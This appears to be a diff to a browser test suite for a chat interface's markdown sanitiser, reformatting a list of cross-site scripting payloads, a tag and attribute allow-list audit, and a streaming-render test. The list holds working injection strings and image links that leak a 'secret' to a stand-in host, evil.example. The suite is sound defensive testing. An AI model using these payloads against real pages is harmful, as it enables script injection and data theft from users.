@@ -28,10 +28,10 @@ HOSTILE = [
     "<svg><script>window.pwned=1</script></svg>",
     '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s>',
     '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.pwned=1>#x"/></svg>',
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
-    "<math><mi//xlink:href=\"data:x,<script>window.pwned=1</script>\">",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
+    '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">',
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
-    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
+    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
     "<iframe src=javascript:window.parent.pwned=1></iframe>",
     '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
     "<object data=javascript:window.pwned=1></object>",
@@ -75,7 +75,7 @@ HOSTILE = [
     "![x](https://evil.example/beacon.png?q=secret)",
     "![x][i]\n\n[i]: https://evil.example/beacon.png",
     "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)",
-    "![x](x\" onerror=\"window.pwned=1)",
+    '![x](x" onerror="window.pwned=1)',
     '```"><img src=x onerror=window.pwned=1>\ncode\n```',
     "```html\n<script>window.pwned=1</script>\n```",
     "```language-x onclick=window.pwned=1\ncode\n```",
@@ -92,10 +92,10 @@ HOSTILE = [
 
 # What may be in an answer: any other tag, attribute or address is a hole.
 AUDIT = """(root) => {
-    const tags = new Set(("DIV P BR HR H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE EM STRONG B I S DEL INS U SMALL A TABLE THEAD " +
-        "TBODY TR TH TD SUB SUP KBD MARK SPAN BUTTON").split(" "));
-    const attributes = new Set(["class", "href", "title", "align", "start", "target", "rel", "tabindex", "role", "aria-label",
-        "type", "dir", "lang"]);
+    const tags = new Set(("DIV P BR HR H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE EM STRONG B I S DEL INS U SMALL A " +
+        "TABLE THEAD TBODY TR TH TD SUB SUP KBD MARK SPAN BUTTON").split(" "));
+    const attributes = new Set(
+        "class href title align start target rel tabindex role aria-label type dir lang".split(" "));
     const found = [];
     for (const element of root.querySelectorAll("*")) {
         if (!tags.has(element.tagName)) found.push(element.outerHTML.slice(0, 200));
@@ -103,7 +103,8 @@ AUDIT = """(root) => {
         for (const { name, value } of element.attributes) {
             if (!attributes.has(name)) found.push(`${name}=${value}`);
             if (name === "href" && !/^(https?:\\/\\/|mailto:)/.test(value)) found.push(`href=${value}`);
-            if (name === "href" && (element.target !== "_blank" || !element.rel.includes("noopener"))) found.push("bare link");
+            const bare = element.target !== "_blank" || !element.rel.includes("noopener");
+            if (name === "href" && bare) found.push("a link that keeps a hold on the page");
         }
     }
     return found;
@@ -183,7 +184,8 @@ def test_the_users_own_words_and_titles_are_text(open_page: OpenPage) -> None:
 def test_the_sanitiser_holds_alone(open_page: OpenPage) -> None:
     # Chromium reports the handlers it meets in the inert document that the sanitiser parses into.
     page = open_page(tolerate="Content Security Policy")
-    attach(page, "sanitise", [f"{before}{payload}" for payload in HOSTILE for before in ("", "<p>", "<a href='", "<table>")])
+    openings = ("", "<p>", "<a href='", "<table>")
+    attach(page, "sanitise", [opening + payload for payload in HOSTILE for opening in openings])
     point_at_everything(page, ".attached")
     check_harmless(page, ".attached")
 
@@ -241,8 +243,9 @@ def test_a_growing_text_ends_as_the_whole_one(open_page: OpenPage) -> None:
     """Drawn piece by piece, a text must end in the same DOM as drawn at once."""
     page = open_page()
     text = (
-        "# 标题\n\nPara **bold\nnext** line\n\n1. one\n2. two\n   - nested\n\n   loose\n\n```py\nx = '<b>'\n\n\ny\n```\n\n> quote\nlazy\n\n"
-        "| a | b |\n|---|---|\n| 1 | 2 |\n\n[link][r] after\n\nSetext\n===\n\n    indented\n\n* * *\n\n<div>\n\nend\r\nwindows\n\n[r]: https://ok.example\n"
+        "# 标题\n\nPara **bold\nnext** line\n\n1. one\n2. two\n   - nested\n\n   loose\n\n"
+        "```py\nx = '<b>'\n\n\ny\n```\n\n> quote\nlazy\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link][r] after\n\n"
+        "Setext\n===\n\n    indented\n\n* * *\n\n<div>\n\nend\r\nwindows\n\n[r]: https://ok.example\n"
     )
     answer_with(page, text)
     ask_and_wait(page, "all kinds")
